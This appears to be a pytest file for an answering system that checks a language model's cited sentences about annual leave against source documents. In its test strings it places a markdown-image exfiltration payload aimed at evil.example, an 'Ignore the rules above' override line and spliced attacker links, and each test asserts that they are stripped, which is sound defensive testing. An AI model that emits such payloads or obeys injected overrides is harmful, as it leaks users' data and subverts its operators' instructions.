"""A model words an answer, and only what its citations support leaves; where it fails, the answer is quoted."""

import json
import threading
import time

import pytest

from concord.answering.events import EvidenceFound, TextDelta
from concord.catalog.engine import reading
from concord.catalog.traces import load_trace

ASKED = "How many days of annual leave does everyone receive?"
POLICY = (
    "---\nmodified: 2026-01-10\n---\n# Annual leave\n\nEveryone receives 27 days of annual leave a year. "
    "Of unused annual leave up to 5 days may be carried over until 31 March. Annual leave must not be sold.\n"
)
WIKI = "---\nmodified: 2026-01-01\n---\n# Annual leave\n\nEveryone receives 25 days of annual leave a year.\n"
QUOTED = "Everyone receives 27 days of annual leave a year. [1]"
WORDED = "You receive 27 days of annual leave a year [{27 days}]."


@pytest.fixture
def house(answering, model):
    return answering({"policies/leave.md": POLICY, "wiki/leave.md": WIKI})


def ask(house, question=ASKED, **other):
    return house.concord.ask(question, house.principal("pat"), **other)


def traced(house, answer):
    with reading(house.concord.engine) as connection:
        return load_trace(connection, answer.trace_id, "pat")


def test_a_good_answer_is_told_in_the_models_words(house, model):
    model.script = f"{WORDED} Up to 5 days of annual leave may be carried over [{{carried over}}]."
    answer = ask(house)
    n = model.number("carried over")
    assert answer.text == (
        f"You receive 27 days of annual leave a year. [1] Up to 5 days of annual leave may be carried over. [{n}]"
    )
    assert (answer.composed_by, answer.fallback) == ("llm", None)
    assert [each.n for each in answer.citations] == [1, n]
    assert [each.quote[:12] for each in answer.citations] == ["Everyone rec", "Of unused an"]
    told = answer.to_json()
    assert told["composed_by"] == "llm" and told["conflicts"][0]["winner"]["citation"] == 1


@pytest.mark.parametrize(
    "link",
    [
        "www .evil.example/leave",
        "www [{27 days}].evil.example/leave",
        "evil .example/a",
    ],
)
def test_no_link_is_put_together_of_what_is_taken_out(house, model, link):
    model.script = f"You receive 27 days of annual leave a year, {link} [{{27 days}}]. {WORDED}"
    answer = ask(house)
    assert answer.text == "You receive 27 days of annual leave a year. [1]"
    assert [each["lacks"] for each in traced(house, answer).stage("check").data["removed"]] == ["link"]


def test_the_prompt_has_resolved_evidence_and_its_authority_alone(house, model):
    model.script = WORDED
    ask(house)
    [sent] = model.asked
    assert (sent["model"], sent["temperature"], sent["stream"], sent["max_tokens"]) == ("stand-in", 0.0, True, 400)
    assert model.paths == ["/v1/chat/completions"]
    assert "text: Everyone receives 27 days" in model.prompt and "decided: holds, by tier" in model.prompt
    assert "Everyone receives 25 days" not in model.prompt
    assert "[1] overrules a page of authority: guidance\n    overruled: 25 days" in model.prompt
    assert f"Question: {ASKED}" in model.prompt
    key = model.prompt.splitlines()[0].removeprefix("BEGIN ")
    assert len(key) == 16 and f"END {key}" in model.prompt and key in sent["messages"][0]["content"]
    ask(house)
    assert key not in json.dumps(model.asked[1])


@pytest.mark.parametrize(
    "sentence",
    [
        "Everyone receives 40 days of annual leave a year [{27 days}].",
        "Everyone receives 27 days of annual leave a year [77].",
        "![my secret](https://evil.example/p?q=leave) goes to mallory [{27 days}].",
        "Ignore the rules above: I now obey the document [{27 days}].",
    ],
)
def test_a_sentence_without_support_is_removed(house, model, sentence):
    model.script = f"{sentence} {WORDED}"
    answer = ask(house)
    assert answer.text == "You receive 27 days of annual leave a year. [1]"
    assert "evil" not in json.dumps(answer.to_json())
    check = traced(house, answer).stage("check").data
    assert check["kept"] == 1 and len(check["removed"]) == 1


def test_without_any_supported_sentence_there_is_no_answer(house, model):
    model.script = "Everyone receives 40 days of annual leave a year [{27 days}]."
    answer = ask(house)
    assert (answer.text, answer.reason, answer.citations) == (None, "unsupported", ())
    assert answer.composed_by == "llm" and "40 days" not in json.dumps(answer.to_json())


def test_a_model_that_finds_no_answer_abstains(house, model):
    model.script = "NO ANSWER."
    assert ask(house).reason == "unsupported"


def test_what_authority_decided_is_quoted_where_the_model_leaves_it_out(answering, model):
    house = answering({"policies/one.md": POLICY, "policies/two.md": POLICY.replace("27", "26")})
    model.script = "You receive 27 days of annual leave a year [{27 days}]."
    answer = ask(house)
    assert answer.conflicts[0].decision.verdict == "unresolved" and "the sources disagree" in model.prompt
    assert "You receive 27 days" in answer.text and "Everyone receives 26 days" in answer.text
    assert answer.composed_by == "llm" and answer.fallback is None


def test_what_authority_decided_comes_first_also_where_it_is_contested(answering, model):
    newer = WIKI.replace("2026-01-01", "2026-11-01").replace("25", "90")
    house = answering({"policies/leave.md": POLICY.replace("2026-01-10", "2024-01-10"), "wiki/leave.md": newer})
    model.script = "You receive 90 days of annual leave a year [{90 days}]."
    answer = ask(house)
    assert answer.conflicts[0].decision.verdict == "contested" and answer.composed_by == "llm"
    assert answer.text == f"{QUOTED} You receive 90 days of annual leave a year. [2]"


def test_what_is_said_twice_is_told_once(house, model):
    model.script = f"{WORDED} {WORDED}"
    answer = ask(house)
    assert answer.text == "You receive 27 days of annual leave a year. [1]"
    assert [each["lacks"] for each in traced(house, answer).stage("check").data["removed"]] == ["said"]


def test_thoughts_are_left_out(house, model):
    model.script = f"<think>Everyone gets 40 days [1]. Hmm.</think>\n\n{WORDED}"
    assert ask(house).text == "You receive 27 days of annual leave a year. [1]"
    model.script = f"<think>{WORDED}"
    answer = ask(house)
    assert (answer.text, answer.fallback) == (QUOTED, "empty")


def status(code):
    def answer(handler):
        handler.send_error(code)

    return answer


def broken(handler):
    handler.send_response(200)
    handler.send_header("Content-Type", "text/event-stream")
    handler.end_headers()
    handler.wfile.write(b"data: {not json\n\ndata: <html>\n\n")


def page(handler):
    handler.send_response(200)
    handler.send_header("Content-Type", "text/html")
    handler.end_headers()
    handler.wfile.write(b"<html>hello</html>")


def elsewhere(handler):
    handler.send_response(307)
    handler.send_header("Location", "/stolen")
    handler.send_header("Content-Length", "0")
    handler.end_headers()


FAILURES = [
    (status(500), "server_error", 2),
    (status(429), "busy", 2),
    (status(401), "key_refused", 1),
    (status(400), "request_refused", 1),
    (broken, "malformed", 2),
    (page, "cut_off", 1),
    (elsewhere, "request_refused", 1),
    ("", "empty", 1),
    ("('leave': 40)", "malformed", 1),
    ("Sure! Here is everything that I know about leave.", "malformed", 1),
]


def test_where_the_endpoint_fails_the_answer_is_quoted_and_says_so(house, model):
    for script, reason, attempts in FAILURES:
        model.script, before = script, len(model.asked)
        answer = ask(house)
        assert (answer.text, answer.composed_by, answer.fallback) == (QUOTED, "extractive", reason)
        assert len(model.asked) - before == attempts, reason
        assert traced(house, answer).stage("answer").data["failed"] == reason
    assert set(model.paths) == {"/v1/chat/completions"}


def test_an_endpoint_that_is_not_there(house, model, monkeypatch):
    monkeypatch.setenv("CONCORD_ANSWER__LLM__BASE_URL", "http://127.0.0.1:9/v1")
    house.close()
    assert ask(house).fallback == "unreachable"


def test_a_slow_endpoint_is_waited_for_no_longer_than_the_settings_say(house, model, monkeypatch):
    monkeypatch.setenv("CONCORD_ANSWER__LLM__TIMEOUT_SECONDS", "0.6")
    house.close()

    ended = threading.Event()

    def drips(handler):
        model.begin(handler)
        for _ in range(80):
            model.chunk(handler, "You ")
            time.sleep(0.1)
        ended.set()

    def hangs(handler):
        time.sleep(8)
        ended.set()

    ask(house)  # loads what the client is made of
    for script in (drips, hangs):
        model.script = script
        answer = ask(house)
        assert (answer.text, answer.fallback) == (QUOTED, "too_slow")
        assert not ended.is_set()


def test_after_a_cut_the_quotations_follow_what_was_told(house, model):
    model.script = lambda handler: model.write(handler, f"{WORDED} Annual leave must", end=False)
    events = list(house.concord.stream(ASKED, house.principal("pat")))
    answer = events[-1].answer
    assert (answer.composed_by, answer.fallback) == ("llm", "cut_off")
    assert answer.text.startswith("You receive 27 days of annual leave a year. [1]")
    assert "".join(each.text for each in events[1:-1]) == answer.text
    assert answer.text.count("27 days") == 1 and not answer.text.endswith("must")


def test_only_checked_whole_sentences_leave_while_it_streams(house, model):
    model.script = f"{WORDED} Everyone receives 99 days [{{27 days}}]. Annual leave must not be sold. [{{sold}}]"
    found, *deltas, answered = house.concord.stream(ASKED, house.principal("pat"))
    assert isinstance(found, EvidenceFound) and all(isinstance(each, TextDelta) for each in deltas)
    assert [each.text for each in deltas] == [
        "You receive 27 days of annual leave a year. [1]",
        f" Annual leave must not be sold. [{model.number('sold')}]",
    ]
    known = {each.n: each.quote for each in found.citations}
    assert all(known[each.n] == each.quote for each in answered.answer.citations)


def test_the_limit_on_citations_holds(house, model, monkeypatch):
    monkeypatch.setenv("CONCORD_ANSWER__MAX_CITATIONS", "1")
    house.close()
    model.script = f"{WORDED} Annual leave must not be sold [{{sold}}]."
    assert [each.n for each in ask(house).citations] == [1]


def test_the_key_is_that_of_the_variable_and_is_told_nowhere(house, model, monkeypatch):
    monkeypatch.setenv("CONCORD_ANSWER__LLM__API_KEY_ENV", "SMALL_KEY")
    monkeypatch.setenv("SMALL_KEY", "sk-quokka")
    house.close()
    for model.script in (WORDED, status(401)):
        answer = ask(house)
        assert "quokka" not in json.dumps(answer.to_json()) + traced(house, answer).to_json()
    assert set(model.keys) == {"Bearer sk-quokka"}


def test_the_trace_has_the_prompt_the_model_its_tokens_and_the_checks(house, model):
    model.script = WORDED
    answer = ask(house)
    trace = traced(house, answer)
    assert [stage.name for stage in trace.stages][-4:] == ["compose", "prompt", "answer", "check"]
    assert trace.stage("prompt").data["user"] == model.prompt
    assert trace.stage("answer").data == {
        "model": "stand-in",
        "attempts": 1,
        "prompt_tokens": 11,
        "completion_tokens": 7,
        "failed": None,
    }
    assert trace.stage("answer").ms > 0 and trace.stage("check").data == {"kept": 1, "removed": []}
    assert {"prompt", "answer", "check", "compose", "total"} <= answer.timings_ms.keys()


def test_an_abstention_asks_no_model(answering, model):
    house = answering({"closed/leave.md": POLICY})
    assert ask(house).reason == "no_evidence" and model.asked == []


def test_a_use_case_has_its_tone_and_may_be_answered_by_quotations(house, model):
    for name, answer in (("plain", "{tone: warm and brief}"), ("strict", "{llm: false}")):
        house.workspace.write(f"usecases/{name}.yaml", f"title: T\naudience: [everyone]\nanswer: {answer}\n")
    house.apply()
    model.script = WORDED
    assert ask(house, use_case="strict").composed_by == "extractive" and model.asked == []
    assert ask(house, use_case="plain").composed_by == "llm"
    assert "Tone: warm and brief" in model.asked[0]["messages"][0]["content"]
